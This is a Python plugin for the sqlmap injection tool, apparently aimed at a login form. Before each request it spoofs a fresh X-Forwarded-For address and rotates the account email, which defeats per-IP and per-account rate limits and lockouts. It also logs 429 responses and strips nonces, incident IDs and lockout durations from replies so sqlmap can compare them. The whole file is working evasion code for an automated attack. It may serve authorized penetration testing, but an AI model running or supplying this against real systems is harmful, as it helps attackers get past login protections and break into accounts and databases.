"""Lets sqlmap compare what is comparable: takes out of answers what differs between equal requests, and sends each
request from an address and for an account of its own, so that no limit of attempts answers in the place of the query.

sqlmap loads it by --preprocess and --postprocess. Answers of the rate limit are counted in the file that LIMITED names.
"""

import itertools
import os
import re

count = itertools.count(1)

# One time only each: the nonce of a page's policy, the number of an incident, how long a lock lasts.
DIFFERENT = [
    (re.compile(r"nonce(=|-)\"?[A-Za-z0-9+/=_-]+\"?"), "nonce"),
    (re.compile(r"incident [0-9a-f]{12}"), "incident"),
    (re.compile(r"[0-9]+ (s|seconds?|minutes?|hours?)\b"), "a while"),
]
UNTOUCHED = re.compile(rb"email=jo(@|%40)example\.com(?=&|$)")


def preprocess(req):
    number = next(count)
    address = "10.%d.%d.%d" % (number >> 16 & 255, number >> 8 & 255, number & 255)
    req.add_header("X-Forwarded-For", address)
    if req.data:
        req.data = UNTOUCHED.sub(b"email=jo-%d%%40example.com" % number, req.data)


def postprocess(page, headers=None, code=None):
    if code == 429:
        with open(os.environ["LIMITED"], "a") as file:
            file.write("limited\n")
    text = page.decode("utf-8", "replace") if isinstance(page, bytes) else (page or "")
    for pattern, plain in DIFFERENT:
        text = pattern.sub(plain, text)
    return text, headers, code
